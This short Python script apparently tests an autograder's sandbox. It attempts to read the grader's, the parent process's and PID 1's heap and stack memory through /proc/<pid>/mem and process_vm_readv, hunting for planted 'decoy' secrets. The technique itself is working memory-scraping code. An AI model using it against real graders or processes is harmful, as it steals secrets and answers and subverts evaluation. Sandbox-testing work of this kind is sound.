"""Reads the grader's memory, where its environment, the course's secret and the answers are."""

import ctypes
import os
import re
from contextlib import suppress
from pathlib import Path

from attacker import GRADER, tell

NEEDS_SANDBOX = True
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


class Part(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def pieces(pid):
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        start, end = (int(number, 16) for number in line.split()[0].split("-"))
        if "[heap]" in line or "[stack]" in line:
            yield start, min(end - start, 2**22)


libc = ctypes.CDLL(None, use_errno=True)
for pid in {GRADER, os.getppid(), 1}:
    with suppress(OSError):
        for start, length in pieces(pid):
            with suppress(OSError), open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(start)
                tell(*re.findall(rb"decoy[0-9a-f]{24}", memory.read(length)))
            held = ctypes.create_string_buffer(length)
            own, other = Part(ctypes.addressof(held), length), Part(start, length)
            if libc.process_vm_readv(pid, ctypes.byref(own), 1, ctypes.byref(other), 1, 0) > 0:
                tell(*re.findall(rb"decoy[0-9a-f]{24}", held.raw))
